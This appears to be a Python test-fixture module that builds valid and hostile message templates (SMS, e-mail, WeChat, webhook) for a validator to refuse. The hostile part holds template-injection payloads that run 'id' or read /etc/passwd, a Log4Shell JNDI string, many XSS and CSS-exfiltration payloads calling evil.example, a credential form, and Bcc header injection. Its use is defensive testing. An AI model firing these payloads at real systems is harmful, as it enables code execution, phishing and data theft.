"""Templates for tests: sound ones, and what people send who want something else of them."""

import itertools
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from chalicelib.kernel.ids import TemplateId
from chalicelib.templates.models import Template

NOW = datetime(2026, 3, 15, 4, 0, tzinfo=UTC)

WECHAT_ID = "ngqIpbwh8bUfcSsECmogfXcV14J0tQlEpBO27izEYtY"


def a_template(contents: dict[str, Any], *, purpose: str = "marketing", version: int = 1) -> Template:
    """A template of some contents."""
    return Template.model_validate(
        {
            "template_id": TemplateId.of("test"),
            "version": version,
            "name": "spring",
            "purpose": purpose,
            "contents": contents,
            "created_at": NOW,
            "changed_at": NOW,
        },
        strict=False,
    )


def an_sms(text: str = "{{name}}您好，您有{{points}}积分。", **fields: Any) -> dict[str, Any]:
    """Contents of a text message in Chinese."""
    return {"channel": "sms", "zh": {"text": text, **fields}}


def an_email(html: str = "<p>您好 {{name}}</p>", subject: str = "给{{name}}", **fields: Any) -> dict[str, Any]:
    """Contents of an e-mail in Chinese."""
    return {"channel": "email", "zh": {"subject": subject, "html": html, **fields}}


def everywhere(text: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Contents with a text in every place that takes one, and the pointer of that place."""
    yield "/contents/zh/text", an_sms(text)
    yield "/contents/zh/aliyun/params/code", an_sms("x", aliyun={"template_code": "SMS_1", "params": {"code": text}})
    yield "/contents/zh/tencent/params/0", an_sms("x", tencent={"template_id": "1", "params": [text]})
    yield "/contents/zh/subject", an_email(subject=text)
    yield "/contents/zh/html", an_email(html=f"<p>{text}</p>")
    yield "/contents/zh/html", an_email(html=f'<p title="{text}">x</p>')
    yield "/contents/zh/text", an_email(text=text)
    yield "/contents/zh/title", {"channel": "app", "zh": {"title": text, "text": "x"}}
    yield "/contents/zh/text", {"channel": "app", "zh": {"title": "x", "text": text}}
    wechat = {"template_id": WECHAT_ID, "data": {"thing1": text, "thing2": "回复TD退订"}}
    yield "/contents/zh/data/thing1", {"channel": "wechat", "zh": wechat}
    yield "/contents/zh/payload/deep/0/text", {"channel": "webhook", "zh": {"payload": {"deep": [{"text": text}]}}}


EXPRESSIONS = (
    "{{1337*1337}}",
    "{{1337+1}}",
    "{{'1337'*2}}",
    "{{ 1337 * 1337 }}",
    "{{name.upper()}}",
    "{{name.__class__}}",
    "{{name.__class__.__mro__[1].__subclasses__()}}",
    "{{''.__class__}}",
    "{{[].__class__}}",
    "{{config}}",
    "{{self}}",
    "{{request}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__}}",
    "{{name|safe}}",
    "{{name|raw}}",
    "{{name | upper}}",
    "{{#if name}}x{{/if}}",
    "{{#each name}}x{{/each}}",
    "{{^name}}x{{/name}}",
    "{{> header}}",
    "{{! comment}}",
    "{{=<% %>=}}",
    "{{&name}}",
    "{{{name}}}",
    "{{{{name}}}}",
    "{{name}}}",
    "{{{name}}",
    "{{name",
    "{{",
    "}}",
    "name}}",
    "{{}}",
    "{{ }}",
    "{{name}",
    "{{ {{name}} }}",
    "{{na{{name}}me}}",
    "{{name}}{{",
    "{{na me}}",
    "{{name name}}",
    "{{name,points}}",
    "{{name;points}}",
    "{{name\\}}",
    "{{\\u006eame}}",
    "{{name[0]}}",
    "{{name['x']}}",
    "{{name()}}",
    "{{__import__('os').system('id')}}",
    "{{open('/etc/passwd').read()}}",
    "{{@name}}",
    "{{$name}}",
    "{{.name}}",
    "{{name.}}",
    "{{-name-}}",
    "{{*name}}",
    "{{Name}}",
    "{{NAME}}",
    "{{naem}}",
    "{{mobile}}",
    "{{email}}",
    "{{contact}}",
    "{{member}}",
    "{{password}}",
    "{{secret}}",
    "{{token}}",
    "{{index_key}}",
    "{{__name__}}",
    "{{__class__}}",
    "{{_}}",
    "{{constructor}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor}}",
    "{{toString}}",
    "{{hasOwnProperty}}",
    "{{__proto__}}",
    "{{opt_out.x}}",
    "{{opt_out }} }}",
    "{{ｎａｍｅ}}",
    "{{nаme}}",
    "{{name\u200b}}",
    "{{\u202ename}}",
    "{{name\n}}",
    "{{\nname}}",
    "{{\tname}}",
    "{{name     }}",
    "{%if name%}x{%endif%}",
    "{% for a in range(9999999) %}x{% endfor %}",
    "{% import os %}",
    "{# comment #}",
    "${1337*1337}",
    "${name}",
    "${jndi:ldap://evil.example/a}",
    "<%= 1337*1337 %>",
    "<% system('id') %>",
    "{{0}}",
    "{{1}}",
    "{{name!r}}",
    "{{name:>9999999999}}",
    "{{0.__class__}}",
    "{{range(1,99)}}",
    "{{include('x')}}",
    "{{get_flashed_messages()}}",
    "{{ name or points }}",
    "{{ name if 1 else 2 }}",
    "{{name}}{{nobody}}",
    "{{n" + "a" * 60 + "}}",
    "{{" * 40,
    "}}" * 40,
    "{{name}}" * 101,
    "{{" + "{{name}}" * 9 + "}}",
)
"""What other languages of templates take for more than text, and what is none of ours."""

UNSEEN = (
    "\x00",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\xad",
    "\u061c",
    "\u200b",
    "\u200e",
    "\u200f",
    "\u2028",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2060",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\ufeff",
    "\ufff9",
    "\ufffb",
    "\u3164",
    "\u115f",
    "\ue000",
    "\U000e0041",
    "\U000f0000",
)
"""Characters that nobody sees, or that turn what follows."""

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="http://evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="https://">',
    '<img src="{{opt_out}}">',
    '<img src="https://a.example/{{name}}">',
    '<img src="https://a.example/{{points}}.png">',
    '<img srcset="https://a.example/x 2x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=https://evil.example>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=x></object>",
    "<embed src=x>",
    "<applet code=x></applet>",
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://e.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="utf-7">',
    '<meta name="referrer" content="x">',
    '<form action="https://evil.example"><input name="password"></form>',
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea></textarea>",
    "<select><option>x</option></select>",
    "<video src=x onerror=alert(1)></video>",
    "<audio controls></audio>",
    "<source src=x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><p>x</p></template>",
    "<xmp><p>x</xmp>",
    "<plaintext>x",
    "<listing>x</listing>",
    "<frameset></frameset>",
    "<body onload=alert(1)>x</body>",
    "<title><b>x</b></title>",
    "<p><body>x</body></p>",
    "<body>x</body><body>y</body>",
    "<html><html>x</html></html>",
    "<body><head></head></body>",
    '<p onclick="alert(1)">x</p>',
    "<p onmouseover=alert(1)>x</p>",
    '<p ONCLICK="x">x</p>',
    '<p/onclick="alert(1)">x</p>',
    '<p\nonclick="alert(1)">x</p>',
    "<p {{name}}>x</p>",
    '<p {{name}}="x">x</p>',
    "<{{name}}>x</{{name}}>",
    '<p on{{name}}="x">x</p>',
    "<p title={{name}}>x</p>",
    "<p title='{{name}}>x</p>",
    '<p style="color:{{name}}">x</p>',
    '<p class="{{name}}">x</p>',
    '<p id="{{tier}}">x</p>',
    '<td width="{{points}}">x</td>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(x)">x</p>',
    '<p style="behavior:url(x)">x</p>',
    '<p style="color:red;/*x*/">x</p>',
    '<p style="col\\6fr:red">x</p>',
    '<p style="position:fixed;top:0">x</p>',
    '<p style="background:u&#114;l(x)">x</p>',
    '<p style="background:image-set(x)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>p{background:url(https://evil.example)}</style>",
    "<style>{{name}}</style>",
    "<style>p{color:{{tier}}}</style>",
    "<style><!-- </style><script>alert(1)</script>",
    "<style>p{}</style",
    "<style>p{color:\\72 ed}</style>",
    "<style>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="http://evil.example">x</a>',
    '<a href="/path">x</a>',
    '<a href="evil.example">x</a>',
    '<a href="{{name}}">x</a>',
    '<a href="{{points}}">x</a>',
    '<a href="{{name}}://x">x</a>',
    '<a href="https://{{name}}">x</a>',
    '<a href="https://{{tier}}.example/">x</a>',
    '<a href="https://a.example{{tier}}/">x</a>',
    '<a href="https://a.example/?n={{name}}">x</a>',
    '<a href="https://a.example/?u={{opt_out}}">x</a>',
    '<a href="{{opt_out}}{{points}}">x</a>',
    '<a href="java{{tier}}script:alert(1)">x</a>',
    '<a href="javascript:{{opt_out}}">x</a>',
    '<a href="https://user@evil.example/">x</a>',
    '<a href="https://a.example\\@evil.example/">x</a>',
    '<a href="https://a.example/&quot;onclick=alert(1)">x</a>',
    '<a href="https://a.example/ x">x</a>',
    '<a href="">x</a>',
    "<a href>x</a>",
    '<a href="https:///evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="mailto:a@b.de%0d%0abcc:{{name}}">x</a>',
    '<a href="mailto:{{name}}@b.de">x</a>',
    '<a href="tel:{{points}}">x</a>',
    '<a target="{{tier}}" href="https://a.example/">x</a>',
    '<a target="evil" href="https://a.example/">x</a>',
    '<a ping="https://evil.example" href="https://a.example/">x</a>',
    "<p",
    "<p ",
    "<p title",
    '<p title="x',
    "<p>x",
    "x</p>",
    "<b><i>x</b></i>",
    "</p>",
    "<p></b></p>",
    "<p/>",
    "<div>" * 70 + "</div>" * 70,
    "<b>" * 4100,
    "<",
    "< p>",
    "<>",
    "a < b",
    "<3",
    "<?php echo 1 ?>",
    "<!ELEMENT x>",
    "<![CDATA[x]]>",
    "<!doctype html SYSTEM 'x'>x",
    "<!-- x",
    "<!-->x-->",
    "<!--->x-->",
    "<!-- <!-- x -->",
    "<!-- x --!> <p>x</p> -->",
    '<p title="a" title="b">x</p>',
    "<p>&#8238;x</p>",
    "<p>&#x202e;x</p>",
    "<p>&#7;x</p>",
    '<p title="&#8238;">x</p>',
    "<p>\x00</p>",
    "<custom-tag>x</custom-tag>",
    "<image src=x>",
    "<isindex>",
    "<keygen>",
    "<dialog open>x</dialog>",
    "<slot>x</slot>",
    "<portal src=x></portal>",
    "<canvas></canvas>",
    '<html xmlns:x="y"><p>x</p></html>',
    '<p xmlns="http://www.w3.org/1999/xhtml" xlink:href="x">x</p>',
    '<a xlink:href="javascript:x">x</a>',
    '<p contenteditable="true">x</p>',
    '<p is="x-y">x</p>',
    '<p data-x="{{name}}">x</p>',
    '<p slot="x">x</p>',
    '<p nonce="x">x</p>',
    '<p formaction="x">x</p>',
    '<td background="https://evil.example/x">x</td>',
    '<table background="javascript:alert(1)"></table>',
    '<img lowsrc="javascript:x">',
    '<img dynsrc="javascript:x">',
    '<img usemap="#x">',
    '<p autofocus tabindex="1">x</p>',
)
"""Markup that may not go out."""


def hostile() -> Iterator[tuple[str, dict[str, Any]]]:
    """Every hostile template: the pointer at which it is to be refused, and its contents."""
    for expression in EXPRESSIONS:
        yield from everywhere(expression)
    for character, (pointer, contents) in itertools.product(UNSEEN, everywhere("a§b")):
        yield pointer, _replaced(contents, "§", character)
    for markup in HTML:
        yield "/contents/zh/html", an_email(html=markup)
    for header in (
        "\r\nBcc: evil@example.com",
        "\nTo: x",
        "\rX: y",
        "a\tb",
        "\x0bBcc: x",
        "%0d%0aBcc\r\n: x",
        "\u2028Bcc: x",
    ):
        yield "/contents/zh/subject", an_email(subject=f"hello{header}")
    for url in (
        "javascript:alert(1)",
        "http://a.example/",
        "//a.example",
        "{{name}}",
        "https://{{tier}}/",
        "https://a.example/{{name}}",
        "https://a.example/ x",
        "data:text/html,x",
        "weixin://dl/x",
        "https://a.example/?u={{preferences}}",
        "{{opt_out}}x",
    ):
        yield "/contents/zh/url", {"channel": "app", "zh": {"title": "x", "text": "x", "url": url}}
        data = {"thing1": "x", "thing2": "回复TD退订"}
        yield "/contents/zh/url", {"channel": "wechat", "zh": {"template_id": WECHAT_ID, "data": data, "url": url}}
    for text in (
        "{{tier}}://evil.example",
        "https://{{tier}}.evil.example",
        "https://a.example/?n={{name}}",
        "http://a.example/{{points}}",
        "https://a.example/{{opt_out}}",
        "ftp://a.example/{{points}}",
        "https://{{name}}/",
    ):
        yield "/contents/zh/text", an_sms(text)
        yield "/contents/zh/text", an_email(text=text)
    for sign in ("【银行】您好", "您好】", "【"):
        yield "/contents/zh/text", an_sms(sign)
    deep: Any = "x"
    for _ in range(12):
        deep = [deep]
    yield "/contents/zh/payload", {"channel": "webhook", "zh": {"payload": {"a": deep}}}
    yield "/contents/zh/payload", {"channel": "webhook", "zh": {"payload": {"a": [1] * 300}}}
    yield "/contents/zh/payload", {"channel": "webhook", "zh": {"payload": {str(n): "x" * 900 for n in range(30)}}}
    for name in ("{{name}}", "a{{points}}", "}}", "\u202ex", "x" * 101, "a\x00"):
        yield "/contents/zh/payload", {"channel": "webhook", "zh": {"payload": {name: "x"}}}
    no_way_out = {"template_id": WECHAT_ID, "data": {"thing1": "x"}, "url": "https://a.example/"}
    yield "/contents/zh/data", {"channel": "wechat", "zh": no_way_out}


def _replaced(value: Any, old: str, new: str) -> Any:
    if isinstance(value, dict):
        return {name: _replaced(each, old, new) for name, each in value.items()}
    if isinstance(value, list):
        return [_replaced(each, old, new) for each in value]
    return value.replace(old, new) if isinstance(value, str) else value
